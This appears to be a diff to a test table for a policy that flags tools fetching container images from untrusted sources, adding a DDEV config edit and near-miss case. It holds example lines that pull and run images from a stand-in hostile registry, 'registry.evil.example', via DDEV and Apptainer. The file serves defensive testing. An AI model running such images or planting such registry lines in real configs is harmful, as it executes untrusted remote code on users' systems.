@@ -1,5 +1,6 @@
 // Images and code a tool fetches and runs, judged by where they come from; a near miss beside each case.
 import { policyTable } from './table';
+import { anEdit } from './harness';
 
 const write = (file: string, content: string) => ({
   tool: 'Write',
@@ -7,6 +8,20 @@ const write = (file: string, content: string) => ({
 });
 
 policyTable('container-image-source', [
+  {
+    note: "DDEV's web image taken from an unknown registry",
+    spec: anEdit(
+      '.ddev/config.yaml',
+      'php_version: "8.2"',
+      'php_version: "8.2"\nwebimage: registry.evil.example/ddev-webserver:v1.23',
+    ),
+    expect: 'ask',
+  },
+  {
+    note: "near miss: DDEV's PHP version changed",
+    spec: anEdit('.ddev/config.yaml', 'php_version: "8.2"', 'php_version: "8.3"'),
+    expect: null,
+  },
   {
     note: 'an Apptainer image from an unknown registry',
     spec: 'apptainer exec docker://registry.evil.example/bio/gatk:4.5.0.0 gatk --version',
